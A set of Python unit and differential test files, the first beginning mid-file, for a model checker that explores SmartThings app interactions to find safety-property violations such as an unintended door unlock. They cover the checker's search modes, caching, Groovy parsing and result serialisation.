        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=4))
        stats = result.swarm["member_stats"]
        assert result.swarm["members"] == 4
        assert [entry["member"] for entry in stats] == [0, 1, 2, 3]
        assert result.states_explored == sum(e["states"] for e in stats)
        assert result.transitions == sum(e["transitions"] for e in stats)
        assert not result.truncated

    def test_member_budgets_truncate_honestly(self):
        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=3,
                                               max_states=25))
        assert result.truncated
        assert result.truncated_reason == "swarm_member_budget"
        for entry in result.swarm["member_stats"]:
            assert entry["truncated"]
            assert entry["states"] <= 25

    def test_duplicate_member_finds_are_deduplicated(self):
        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=3))
        found_per_member = sum(entry["violations"]
                               for entry in result.swarm["member_stats"])
        # every member rediscovers (roughly) the same violations; the
        # sink keeps one counterexample per dedup key
        assert result.swarm["candidates"] == len(result.counterexamples)
        assert found_per_member > result.swarm["candidates"] > 0
        assert (result.swarm["distinct_violations"]
                == len(result.counterexamples))

    def test_stop_on_first_skips_remaining_members(self):
        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=8,
                                               stop_on_first=True))
        assert result.has_violations
        assert result.swarm["members"] < 8

    def test_coverage_estimate_is_sane_when_present(self):
        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=4))
        estimate = result.swarm["coverage_estimate"]
        if estimate is not None:
            assert 0.0 < estimate <= 1.0

    def test_single_member_has_no_estimate(self):
        result = execute_job_inline(_swarm_job(GROUP1, swarm_members=1))
        assert result.swarm["coverage_estimate"] is None


# -- coverage honesty ---------------------------------------------------------


class TestCoverageHonesty:
    def test_violated_swarm_is_partial(self):
        result = execute_job_inline(_swarm_job(GROUP1))
        assert result.coverage == "partial"
        assert result.to_dict()["coverage"] == "partial"

    def test_safe_swarm_is_still_partial(self):
        result = execute_job_inline(
            VerificationJob("safe", _safe_config(),
                            EngineOptions(max_events=2, mode="swarm",
                                          swarm_members=2, seed=3),
                            strict=False))
        assert result.verdict == "safe"
        assert result.coverage == "partial"

    def test_exhaustive_results_stay_exhaustive(self):
        result = execute_job_inline(_group_job(GROUP1))
        assert result.coverage == "exhaustive"
        truncated = execute_job_inline(_group_job(GROUP1, max_states=10))
        assert truncated.coverage == "partial"

    def test_execute_job_routes_swarm_inline(self):
        # workers>1 + swarm: the swarm driver wins, no process sharding
        result = execute_job(_swarm_job(GROUP1, workers=2))
        assert isinstance(result, SwarmResult)
        assert result.shard_stats == []


# -- the vetting service: cache either sound results or nothing ---------------


class TestSwarmCacheSafety:
    def test_swarm_safe_is_served_but_never_cached(self):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        record = scheduler.submit(
            VerificationJob("swarm-safe", _safe_config(),
                            EngineOptions(max_events=2, mode="swarm",
                                          swarm_members=2, seed=3),
                            strict=False))
        scheduler.run_pending()
        assert record.status == "done", record.error
        assert record.verdict == "safe"
        assert record.result.coverage == "partial"
        # the verdict is answered, but "not found by this sample" is
        # not a fact worth remembering
        assert store.get(record.cache_key) is None

    def test_swarm_violations_are_cached_and_match_exhaustive(
            self, alice_config):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        record = scheduler.submit(
            VerificationJob("swarm-violated", alice_config,
                            EngineOptions(max_events=2, mode="swarm",
                                          swarm_members=2, seed=3),
                            strict=False))
        scheduler.run_pending()
        assert record.status == "done", record.error
        assert record.verdict == "violated"
        stored = store.get(record.cache_key)
        assert stored is not None
        assert isinstance(stored.result, SwarmResult)
        fresh = execute_job_inline(
            VerificationJob("fresh", alice_config,
                            EngineOptions(max_events=2, engine="interpreted"),
                            strict=False))
        assert (stored.result.violated_property_ids
                == fresh.violated_property_ids)
        for key, counterexample in stored.result.counterexamples.items():
            assert (counterexample.describe()
                    == fresh.counterexamples[key].describe())


# -- depth 5 under a hard memory cap ------------------------------------------


_DEPTH5_SCRIPT = textwrap.dedent("""
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine import EngineOptions
    from repro.engine.batch import VerificationJob, execute_job_inline
    result = execute_job_inline(VerificationJob(
        "group1", GROUP_BUILDERS["group1-entry-and-mode"](),
        EngineOptions(max_events=5, max_states=2_000_000, visited="spill",
                      successor_cache=False, spill_dir=sys.argv[1]),
        strict=False))
    assert not result.truncated, result.truncated_reason
    print(result.states_explored,
          resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
""")


class TestDiskBackedDepthFive:
    def test_depth5_group1_fits_a_hard_address_space_cap(self, tmp_path):
        """Depth 5 on group1 needs multiple GiB of RSS with the default
        in-RAM stores; the spill store (plus no successor cache) must
        finish the same exhaustive search inside a 1 GiB RLIMIT_AS.
        A subprocess, because ru_maxrss is process-lifetime max and
        RLIMIT_AS must not constrain the rest of the suite."""
        _load_or_skip(load_all_apps)
        src = os.path.join(os.path.dirname(os.path.dirname(
            os.path.abspath(__file__))), "src")
        env = dict(os.environ, PYTHONPATH=src)
        proc = subprocess.run(
            [sys.executable, "-c", _DEPTH5_SCRIPT, str(tmp_path)],
            capture_output=True, text=True, env=env, timeout=600)
        assert proc.returncode == 0, proc.stderr
        states, maxrss_kib = (int(field) for field in proc.stdout.split())
        assert states >= 100_000  # the full depth-5 frontier, not a stub
        assert maxrss_kib < 768 * 1024  # well under the 1 GiB cap
