"""Unit tests for the Groovy recursive-descent parser."""

import pytest

from repro.groovy import ast, parse
from repro.groovy.errors import ParseError
from repro.groovy.parser import parse_expression


def expr(source):
    return parse_expression(source)


def first_stmt(source):
    return parse(source).statements[0]


class TestLiteralsAndNames:
    def test_integer(self):
        node = expr("42")
        assert isinstance(node, ast.Literal)
        assert node.value == 42

    def test_boolean_true(self):
        assert expr("true").value is True

    def test_null(self):
        assert expr("null").value is None

    def test_string(self):
        assert expr("'hi'").value == "hi"

    def test_name(self):
        node = expr("switches")
        assert isinstance(node, ast.Name)
        assert node.id == "switches"

    def test_list_literal(self):
        node = expr("[1, 2, 3]")
        assert isinstance(node, ast.ListLit)
        assert [item.value for item in node.items] == [1, 2, 3]

    def test_empty_map_literal(self):
        node = expr("[:]")
        assert isinstance(node, ast.MapLit)
        assert node.entries == []

    def test_map_literal(self):
        node = expr("[a: 1, b: 2]")
        assert isinstance(node, ast.MapLit)
        assert [e.key for e in node.entries] == ["a", "b"]

    def test_range_literal(self):
        node = expr("1..5")
        assert isinstance(node, ast.RangeLit)
        assert node.lo.value == 1
        assert node.hi.value == 5

    def test_gstring(self):
        node = expr('"x is ${x}"')
        assert isinstance(node, ast.GString)
        assert any(isinstance(part, ast.Expr) for part in node.parts)


class TestOperators:
    def test_precedence_mul_over_add(self):
        node = expr("1 + 2 * 3")
        assert isinstance(node, ast.Binary)
        assert node.op == "+"
        assert node.right.op == "*"

    def test_parenthesized(self):
        node = expr("(1 + 2) * 3")
        assert node.op == "*"
        assert node.left.op == "+"

    def test_comparison_chain_with_logic(self):
        node = expr("a < b && c >= d")
        assert node.op == "&&"

    def test_unary_not(self):
        node = expr("!done")
        assert isinstance(node, ast.Unary)
        assert node.op == "!"

    def test_unary_minus(self):
        node = expr("-5")
        assert isinstance(node, ast.Unary) or (
            isinstance(node, ast.Literal) and node.value == -5)

    def test_ternary(self):
        node = expr("a ? b : c")
        assert isinstance(node, ast.Ternary)

    def test_elvis(self):
        node = expr("a ?: b")
        assert isinstance(node, ast.Elvis)

    def test_property_access(self):
        node = expr("evt.value")
        assert isinstance(node, ast.Property)
        assert node.name == "value"

    def test_safe_navigation_property(self):
        node = expr("evt?.device")
        assert isinstance(node, ast.Property)

    def test_index(self):
        node = expr("items[0]")
        assert isinstance(node, ast.Index)

    def test_instanceof(self):
        node = expr("x instanceof String")
        assert isinstance(node, ast.Binary)
        assert node.op == "instanceof"


class TestCalls:
    def test_function_call(self):
        node = expr("foo(1, 2)")
        assert isinstance(node, ast.Call)
        assert node.name == "foo"
        assert len(node.args) == 2

    def test_method_call(self):
        node = expr("lock1.unlock()")
        assert isinstance(node, ast.MethodCall)
        assert node.name == "unlock"

    def test_method_call_with_args(self):
        node = expr("sw.setLevel(50)")
        assert node.args[0].value == 50

    def test_named_arguments(self):
        node = expr("input(name: 'x', type: 'enum')")
        assert isinstance(node, ast.Call)
        assert {e.key for e in node.named} == {"name", "type"}

    def test_trailing_closure(self):
        node = expr("items.each { println it }")
        assert isinstance(node, ast.MethodCall)
        assert node.closure is not None

    def test_closure_with_params(self):
        node = expr("items.collect { item -> item.name }")
        assert [p.name for p in node.closure.params] == ["item"]

    def test_spread_method_call(self):
        node = expr("switches*.on()")
        assert isinstance(node, ast.MethodCall)
        assert node.spread

    def test_command_style_call(self):
        # SmartThings DSL: input "x", "capability.switch", title: "T"
        stmt = first_stmt('input "x", "capability.switch", title: "T"')
        assert isinstance(stmt, ast.ExprStmt)
        call = stmt.value
        assert isinstance(call, ast.Call)
        assert call.name == "input"
        assert call.args[0].value == "x"
        assert call.named[0].key == "title"

    def test_chained_calls(self):
        node = expr("a.b().c()")
        assert isinstance(node, ast.MethodCall)
        assert node.name == "c"
        assert isinstance(node.obj, ast.MethodCall)


class TestStatements:
    def test_var_decl(self):
        stmt = first_stmt("def x = 5")
        assert isinstance(stmt, ast.VarDecl)
        assert stmt.name == "x"
        assert stmt.value.value == 5

    def test_typed_var_decl(self):
        stmt = first_stmt("int count = 0")
        assert isinstance(stmt, ast.VarDecl)
        assert stmt.type_name == "int"

    def test_assignment(self):
        stmt = first_stmt("x = 1")
        assert isinstance(stmt, ast.Assign)

    def test_compound_assignment(self):
        stmt = first_stmt("x += 2")
        assert isinstance(stmt, ast.Assign)
        assert stmt.op == "+="

    def test_property_assignment(self):
        stmt = first_stmt("state.count = 1")
        assert isinstance(stmt, ast.Assign)
        assert isinstance(stmt.target, ast.Property)

    def test_if_else(self):
        stmt = first_stmt("if (a) { b() } else { c() }")
        assert isinstance(stmt, ast.If)
        assert stmt.orelse is not None

    def test_if_without_braces(self):
        stmt = first_stmt("if (a)\n    b()")
        assert isinstance(stmt, ast.If)

    def test_else_if_chain(self):
        stmt = first_stmt("if (a) { } else if (b) { } else { }")
        assert isinstance(stmt.orelse.stmts[0], ast.If)

    def test_while_loop(self):
        stmt = first_stmt("while (x < 3) { x = x + 1 }")
        assert isinstance(stmt, ast.While)

    def test_for_in_loop(self):
        stmt = first_stmt("for (s in switches) { s.on() }")
        assert isinstance(stmt, ast.ForIn)
        assert stmt.var == "s"

    def test_c_style_for(self):
        stmt = first_stmt("for (int i = 0; i < 3; i++) { foo(i) }")
        assert isinstance(stmt, ast.ForC)

    def test_return_value(self):
        stmt = first_stmt("return 5")
        assert isinstance(stmt, ast.Return)
        assert stmt.value.value == 5

    def test_bare_return(self):
        stmt = first_stmt("return")
        assert isinstance(stmt, ast.Return)
        assert stmt.value is None

    def test_switch_statement(self):
        source = '''
switch (mode) {
    case "heat":
        heaterOn()
        break
    case "cool":
        acOn()
        break
    default:
        idle()
}
'''
        stmt = first_stmt(source)
        assert isinstance(stmt, ast.Switch)
        assert len(stmt.cases) == 3

    def test_try_catch(self):
        stmt = first_stmt("try { risky() } catch (e) { log(e) }")
        assert isinstance(stmt, ast.Try)
        assert len(stmt.catches) == 1

    def test_method_def(self):
        stmt = first_stmt("def handler(evt) { evt.value }")
        assert isinstance(stmt, ast.MethodDef)
        assert stmt.name == "handler"
        assert [p.name for p in stmt.params] == ["evt"]

    def test_private_method_def(self):
        stmt = first_stmt("private helper() { return 1 }")
        assert isinstance(stmt, ast.MethodDef)
        assert "private" in stmt.modifiers

    def test_method_def_default_param(self):
        stmt = first_stmt("def f(x = 3) { x }")
        assert stmt.params[0].default.value == 3


class TestErrorsAndRecovery:
    def test_unclosed_brace_raises(self):
        with pytest.raises(ParseError):
            parse("def f() { if (a) {")

    def test_garbage_raises(self):
        with pytest.raises(ParseError):
            parse("def = = =")

    def test_error_carries_position(self):
        try:
            parse("def f() { @@@ }")
        except (ParseError, Exception) as error:
            assert getattr(error, "line", 1) >= 1


class TestWholeApp:
    def test_full_app_parses(self):
        source = '''
definition(
    name: "Test App",
    namespace: "test",
    author: "T",
    description: "Testing",
    category: "Convenience")

preferences {
    section("Pick") {
        input "switch1", "capability.switch", title: "Switch"
        input "minutes", "number", title: "Minutes", required: false
    }
}

def installed() {
    initialize()
}

def initialize() {
    subscribe(switch1, "switch.on", onHandler)
}

def onHandler(evt) {
    if (minutes) {
        runIn(minutes * 60, turnOff)
    }
}

def turnOff() {
    switch1.off()
}
'''
        program = parse(source)
        names = [s.name for s in program.statements
                 if isinstance(s, ast.MethodDef)]
        assert names == ["installed", "initialize", "onHandler", "turnOff"]
