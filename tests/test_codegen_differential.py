"""Codegen-tier differential tests: generated modules vs the oracle.

The codegen tier (:mod:`repro.model.codegen`) is a pure performance
knob: per-app Python source generation, pooled executors, a lean
traceless cascade and slab-drained successor evaluation.  None of that
may move a single observable - these suites prove verdicts, violation
sets, per-counterexample event paths and rendered traces byte-identical
to the interpreted oracle across the whole bundled corpus, every
visited store, the sleep-set reduction, failure enumeration and the
sharded multi-process search.
"""

import pytest

from repro.attribution.enumerator import ConfigurationEnumerator
from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps, load_discovery_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.devices.catalog import DEVICE_TYPES
from repro.engine import EngineOptions, ExplorationEngine
from repro.model.codegen import CodegenPlan, generate_source
from repro.model.generator import ModelGenerator
from repro.properties import build_properties, select_relevant
from repro.translator.lowering import lower_program

from tests.conftest import _load_or_skip


def _zoo_deployment():
    """One device of every modeled type: a home any app can bind into."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    for index, type_name in enumerate(sorted(DEVICE_TYPES)):
        config.add_device("zoo%02d" % index, type_name)
    return config


@pytest.fixture(scope="module")
def corpus():
    registry = _load_or_skip(load_all_apps)
    try:
        registry.update(load_discovery_apps())
    except Exception:
        pass  # discovery corpus optional for this suite
    return registry


@pytest.fixture(scope="module")
def codegen_cache(tmp_path_factory):
    """A private on-disk source cache, one per test module run."""
    return str(tmp_path_factory.mktemp("codegen-cache"))


def _verify_both(system, properties, codegen_cache, **option_kwargs):
    results = {}
    for engine in ("codegen", "interpreted"):
        options = EngineOptions(engine=engine, codegen_cache=codegen_cache,
                                **option_kwargs)
        results[engine] = ExplorationEngine(system, properties, options).run()
    return results["codegen"], results["interpreted"]


def _trace_view(result):
    """Per-counterexample event paths and full rendered step traces."""
    return {
        key: (ce.event_labels(),
              [(s.kind, s.text, s.app) for s in ce.all_steps()])
        for key, ce in result.counterexamples.items()}


def _assert_equivalent(codegen, interpreted, context, traces=True):
    assert codegen.states_explored == interpreted.states_explored, context
    assert codegen.transitions == interpreted.transitions, context
    assert (sorted(codegen.counterexamples)
            == sorted(interpreted.counterexamples)), context
    if traces:
        assert _trace_view(codegen) == _trace_view(interpreted), context


class TestWholeCorpusGenerates:
    def test_every_corpus_app_generates_compilable_source(self, corpus):
        """The emitter must handle every construct the corpus uses - no
        app may silently fall back to the closure compiler - and the
        emitted text must be real, compilable Python."""
        failures = []
        for name, app in sorted(corpus.items()):
            try:
                ir = lower_program(app.program)
                source = _Emitted(ir, name).source
                compile(source, "<codegen:%s>" % name, "exec")
            except Exception as exc:
                failures.append("%s: %s" % (name, exc))
        assert not failures, "ungeneratable corpus apps:\n" + "\n".join(
            failures)

    def test_emission_is_deterministic(self, corpus):
        """Identical IR must emit byte-identical source (the disk cache
        depends on it: a re-generation must reproduce the cached file)."""
        for name, app in sorted(corpus.items())[:10]:
            ir = lower_program(app.program)
            assert _Emitted(ir, name).source == _Emitted(ir, name).source


class _Emitted:
    """Tiny adapter: emit a module for a lowered program by name."""

    def __init__(self, ir, name):
        from repro.model.codegen import SourceEmitter
        self.source = SourceEmitter(ir).emit_module(name, "test-digest")


class TestPerAppDifferential:
    """Every corpus app, auto-configured into the zoo home, explored by
    the codegen tier and the interpreted oracle with identical
    outcomes."""

    def test_full_corpus_codegen_equals_interpreted(self, corpus,
                                                    codegen_cache):
        enumerator = ConfigurationEnumerator(_zoo_deployment())
        checked = 0
        for name, smart_app in sorted(corpus.items()):
            bindings = next(iter(
                enumerator.enumerate_bindings(smart_app, limit=1)), None)
            if bindings is None:
                bindings = {}
            config = _zoo_deployment()
            config.add_app(name, bindings)
            try:
                system = ModelGenerator(corpus).build(config, strict=False)
            except Exception:
                continue  # un-installable in the zoo (strict build issues)
            properties = select_relevant(system, build_properties())
            codegen, interpreted = _verify_both(
                system, properties, codegen_cache,
                max_events=2, max_states=300)
            if codegen.truncated or interpreted.truncated:
                # slab draining changes the DFS pop order, so a
                # truncated space need not cut off at the same frontier;
                # the verdict must still agree
                assert (codegen.verdict == interpreted.verdict), name
            else:
                _assert_equivalent(codegen, interpreted, "app %r" % name)
            checked += 1
        # the bundled corpus is 57 market + 9 malicious + 4 discovery
        # apps; virtually all of them must be installable in the zoo
        assert checked >= 60, "only %d corpus apps exercised" % checked

    def test_no_corpus_app_falls_back(self, corpus, codegen_cache):
        """Plan build over a fully-loaded zoo: every installable app
        must come out generated, not on the fallback list."""
        config = _zoo_deployment()
        enumerator = ConfigurationEnumerator(_zoo_deployment())
        installed = 0
        for name, smart_app in sorted(corpus.items()):
            if installed >= 10:
                break
            bindings = next(iter(
                enumerator.enumerate_bindings(smart_app, limit=1)), None)
            if bindings is None:
                continue
            config.add_app(name, bindings)
            installed += 1
        system = ModelGenerator(corpus).build(config, strict=False)
        plan = CodegenPlan(system, cache_dir=codegen_cache)
        assert plan.fallbacks == []
        assert plan.generated == len(system.apps)


class TestGroupDifferential:
    """The six §10.1 expert groups: multi-app interaction, real
    violation sets, identical under the codegen tier."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_group_codegen_equals_interpreted(self, group_name,
                                              codegen_cache):
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(GROUP_BUILDERS[group_name]())
        properties = select_relevant(system, build_properties())
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache, max_events=2, max_states=5000)
        _assert_equivalent(codegen, interpreted, group_name)

    @pytest.mark.parametrize("visited", ["exact", "collapse"])
    def test_group1_every_exact_store(self, visited, codegen_cache):
        """The slab path consults the visited store through the same
        engine hooks; the exact stores must agree state-for-state."""
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(
            GROUP_BUILDERS["group1-entry-and-mode"]())
        properties = select_relevant(system, build_properties())
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache,
            max_events=2, max_states=5000, visited=visited)
        _assert_equivalent(codegen, interpreted, "group1+" + visited)

    def test_group1_bitstate_verdict(self, codegen_cache):
        """The bitstate store is probabilistic in coverage but the
        verdict on this violating workload must not flip."""
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(
            GROUP_BUILDERS["group1-entry-and-mode"]())
        properties = select_relevant(system, build_properties())
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache,
            max_events=2, max_states=5000, visited="bitstate",
            bitstate_bits=20)
        assert codegen.verdict == interpreted.verdict
        assert (codegen.violated_property_ids
                == interpreted.violated_property_ids)

    def test_group1_with_reduction(self, codegen_cache):
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(
            GROUP_BUILDERS["group1-entry-and-mode"]())
        properties = select_relevant(system, build_properties())
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache,
            max_events=3, max_states=20000, reduction=True)
        _assert_equivalent(codegen, interpreted, "group1+reduction")
        assert codegen.commutes_pruned == interpreted.commutes_pruned

    def test_group1_with_failures_and_concurrent(self, codegen_cache):
        """Failure enumeration disables the slab fast path and the
        concurrent design bypasses the lean relation entirely; both
        must stay back-end independent."""
        registry = _load_or_skip(load_all_apps)
        config = GROUP_BUILDERS["group1-entry-and-mode"]()
        system = ModelGenerator(registry).build(config,
                                                enable_failures=True)
        properties = select_relevant(system, build_properties())
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache, max_events=1,
            max_states=2000)
        _assert_equivalent(codegen, interpreted, "group1+failures")

        system = ModelGenerator(registry).build(config)
        codegen, interpreted = _verify_both(
            system, properties, codegen_cache, max_events=2,
            max_states=2000, mode="concurrent")
        _assert_equivalent(codegen, interpreted, "group1+concurrent")

    def test_group1_slab_of_one_matches_default_slab(self, codegen_cache):
        """slab_size=1 restores strict node-at-a-time draining; on an
        exhaustive (untruncated) space both orders must converge on the
        same states, transitions and canonical traces."""
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(
            GROUP_BUILDERS["group1-entry-and-mode"]())
        properties = select_relevant(system, build_properties())
        results = []
        for slab_size in (1, 64):
            options = EngineOptions(engine="codegen", slab_size=slab_size,
                                    codegen_cache=codegen_cache,
                                    max_events=2, max_states=5000)
            results.append(
                ExplorationEngine(system, properties, options).run())
        _assert_equivalent(results[0], results[1], "slab 1 vs 64")


class TestShardedCodegen:
    def test_group1_sharded_codegen_matches_single_compiled(self,
                                                            codegen_cache):
        """Two shard processes regenerate their executors from the
        digest-keyed source cache; merged verdicts and canonical traces
        must match the single-worker compiled run byte-for-byte."""
        from repro.engine.batch import VerificationJob
        from repro.engine.parallel import explore_sharded

        config = GROUP_BUILDERS["group1-entry-and-mode"]()
        sharded = explore_sharded(
            VerificationJob("codegen-x2", config,
                            options=EngineOptions(
                                max_events=2, engine="codegen",
                                codegen_cache=codegen_cache, workers=2)),
            workers=2)
        single = explore_sharded(
            VerificationJob("compiled-x1", config,
                            options=EngineOptions(max_events=2)),
            workers=1)
        assert sharded.states_explored == single.states_explored
        assert sharded.transitions == single.transitions
        assert (sorted(sharded.counterexamples)
                == sorted(single.counterexamples))
        assert _trace_view(sharded) == _trace_view(single)
