"""Unit tests for the bounded explorer (§2.3 falsification, §8 search)."""

import pytest

from repro.checker.explorer import (
    CONCURRENT,
    SEQUENTIAL,
    ExplorationResult,
    Explorer,
    ExplorerOptions,
    verify,
)
from repro.properties import build_properties


class TestOptions:
    def test_defaults(self):
        options = ExplorerOptions()
        assert options.max_events == 3
        assert options.mode == SEQUENTIAL
        # one word per state is the default since the compiled-transition
        # engine: the store is the hash-compact trade-off Spin makes
        assert options.visited == "fingerprint"

    def test_make_visited_exact(self):
        from repro.checker.visited import ExactVisitedSet
        store = ExplorerOptions(visited="exact").make_visited()
        assert type(store) is ExactVisitedSet

    def test_make_visited_bitstate(self):
        from repro.checker.visited import BitStateTable
        options = ExplorerOptions(visited="bitstate", bitstate_bits=16)
        assert isinstance(options.make_visited(), BitStateTable)


class TestSearch:
    def test_finds_fig7_violation(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        assert "P06" in result.violated_property_ids

    def test_depth_one_suffices_for_fig7(self, alice_system):
        """The whole unlock chain is one cascade from one external event."""
        result = verify(alice_system, build_properties(), max_events=1)
        assert "P06" in result.violated_property_ids

    def test_counterexample_depth_bounded(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        for counterexample in result.counterexamples.values():
            assert 1 <= counterexample.depth <= 2

    def test_deeper_bound_explores_more_states(self, alice_system):
        shallow = verify(alice_system, build_properties(), max_events=1)
        deep = verify(alice_system, build_properties(), max_events=3)
        assert deep.states_explored > shallow.states_explored

    def test_stop_on_first(self, alice_system):
        full = verify(alice_system, build_properties(), max_events=2)
        early = verify(alice_system, build_properties(), max_events=2,
                       stop_on_first=True)
        # stops at the first violating transition (which may carry several
        # violations from one cascade)
        assert early.has_violations
        assert early.transitions <= full.transitions

    def test_bitstate_finds_same_violations(self, alice_system):
        exact = verify(alice_system, build_properties(), max_events=2)
        bitstate = verify(alice_system, build_properties(), max_events=2,
                          visited="bitstate", bitstate_bits=20)
        assert set(bitstate.violated_property_ids) == set(
            exact.violated_property_ids)

    def test_concurrent_mode_finds_fig7(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2,
                        mode=CONCURRENT, max_states=50000)
        assert "P06" in result.violated_property_ids

    def test_sequential_faster_than_concurrent(self, alice_system):
        """Table 7b's point: sequential explores far fewer states."""
        sequential = verify(alice_system, build_properties(), max_events=2)
        concurrent = verify(alice_system, build_properties(), max_events=2,
                            mode=CONCURRENT, max_states=100000)
        assert sequential.states_explored < concurrent.states_explored


class TestLimits:
    def test_max_states_truncates(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=3,
                        max_states=5)
        assert result.truncated
        assert result.truncated_reason == "max_states"

    def test_max_transitions_truncates(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=3,
                        max_transitions=3)
        assert result.truncated
        assert result.truncated_reason == "max_transitions"

    def test_time_limit_truncates(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=5,
                        time_limit=1e-9)
        assert result.truncated
        assert result.truncated_reason == "time_limit"


class TestResultAccessors:
    @pytest.fixture()
    def result(self, alice_system):
        return verify(alice_system, build_properties(), max_events=2)

    def test_summary_mentions_counts(self, result):
        summary = result.summary()
        assert "violation" in summary
        assert "states" in summary

    def test_counterexample_for(self, result):
        assert result.counterexample_for("P06") is not None
        assert result.counterexample_for("P99") is None

    def test_violations_property(self, result):
        assert len(result.violations) == len(result.counterexamples)

    def test_has_violations(self, result):
        assert result.has_violations
        assert not ExplorationResult().has_violations

    def test_event_labels_nonempty(self, result):
        counterexample = result.counterexample_for("P06")
        labels = counterexample.event_labels()
        assert labels
        assert all(isinstance(label, str) for label in labels)

    def test_describe_mentions_property(self, result):
        counterexample = result.counterexample_for("P06")
        assert "P06" in counterexample.describe()


class TestAttribution:
    def test_fig7_violation_attributed_to_both_apps(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        counterexample = result.counterexample_for("P06")
        apps = set(counterexample.violation.apps)
        assert apps == {"Auto Mode Change", "Unlock Door"}

    def test_safe_system_has_no_violations(self, generator):
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("m", "smartsense-motion")
        config.add_device("s1", "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s1"})
        system = generator.build(config)
        from repro.properties import select_relevant
        props = select_relevant(system, build_properties())
        result = verify(system, props, max_events=2)
        assert not result.has_violations
