"""JSON round-trip of results + the cache-hit-rate regression."""

import json

import pytest

from repro import check_configurations
from repro.checker.trace import render_violation_log
from repro.checker.violations import Counterexample, TraceStep, Violation
from repro.engine import EngineOptions, ExplorationEngine
from repro.engine.result import BatchResult, ExplorationResult
from repro.properties import build_properties, select_relevant


@pytest.fixture()
def alice_result(alice_system):
    properties = select_relevant(alice_system, build_properties())
    return ExplorationEngine(alice_system, properties,
                             EngineOptions(max_events=2)).run()


class TestExplorationResultRoundTrip:
    def test_to_json_round_trips_exactly(self, alice_result):
        text = alice_result.to_json()
        restored = ExplorationResult.from_json(text)
        assert restored.to_dict() == alice_result.to_dict()
        assert restored.to_json() == text

    def test_verdict_and_statistics_survive(self, alice_result):
        restored = ExplorationResult.from_json(alice_result.to_json())
        assert restored.verdict == "violated"
        assert restored.violated_property_ids == \
            alice_result.violated_property_ids
        assert restored.states_explored == alice_result.states_explored
        assert restored.transitions == alice_result.transitions
        assert restored.visited_stats == alice_result.visited_stats
        assert restored.summary() == alice_result.summary()

    def test_counterexample_traces_render_byte_identically(
            self, alice_system, alice_result):
        restored = ExplorationResult.from_json(alice_result.to_json())
        assert len(restored.counterexamples) == \
            len(alice_result.counterexamples)
        for key, counterexample in alice_result.counterexamples.items():
            twin = restored.counterexamples[key]
            assert twin.describe() == counterexample.describe()
            assert render_violation_log(alice_system, twin) == \
                render_violation_log(alice_system, counterexample)

    def test_restored_properties_are_catalog_objects(self, alice_result):
        restored = ExplorationResult.from_json(alice_result.to_json())
        by_id = {p.id: p for p in build_properties()}
        for counterexample in restored.counterexamples.values():
            prop = counterexample.violation.property
            assert prop is by_id[prop.id]

    def test_unknown_property_degrades_to_stub(self):
        violation = Violation.from_dict({
            "property": {"id": "PX99", "name": "Custom rule",
                         "category": "custom", "kind": "invariant",
                         "description": "d", "ltl": "[](x)",
                         "roles": ["some_role"]},
            "message": "custom violated", "apps": ["A"]})
        assert violation.property.id == "PX99"
        assert violation.property.ltl == "[](x)"
        assert violation.property.roles == ("some_role",)
        assert violation.dedup_key() == ("PX99", "custom violated", ("A",))

    def test_trace_step_optional_fields(self):
        step = TraceStep("command", "lock.unlock()", app="Unlock Door")
        assert TraceStep.from_dict(step.to_dict()).app == "Unlock Door"
        bare = TraceStep.from_dict({"kind": "log", "text": "x"})
        assert bare.app is None and bare.line is None

    def test_counterexample_path_round_trips(self):
        violation = Violation.from_dict({
            "property": {"id": "P06", "name": "n"}, "message": "m"})
        counterexample = Counterexample(violation, [
            ("alicePresence/presence=present",
             [TraceStep("handler", "App.handler(ev)", app="App")]),
        ])
        restored = Counterexample.from_dict(counterexample.to_dict())
        assert restored.event_labels() == counterexample.event_labels()
        assert [s.text for s in restored.all_steps()] == \
            [s.text for s in counterexample.all_steps()]

    def test_newer_schema_refused(self):
        with pytest.raises(ValueError, match="schema version"):
            ExplorationResult.from_dict({"schema": 999})


class TestBatchResultRoundTrip:
    def test_round_trip_with_errors(self, alice_config):
        batch = check_configurations(
            {"alice": alice_config, "alice-2": alice_config},
            workers=1, max_events=1)
        batch.add_error("broken", "ValueError: nope")
        restored = BatchResult.from_json(batch.to_json())
        assert restored.to_dict() == batch.to_dict()
        assert restored.errors == {"broken": "ValueError: nope"}
        assert restored.workers == batch.workers
        assert restored.violated_property_ids == batch.violated_property_ids
        assert restored.summary() == batch.summary()

    def test_json_is_machine_parseable(self, alice_config):
        batch = check_configurations({"alice": alice_config}, workers=1,
                                     max_events=1)
        payload = json.loads(batch.to_json(indent=2))
        assert payload["schema"] == 1
        assert payload["verdict"] in ("safe", "violated")
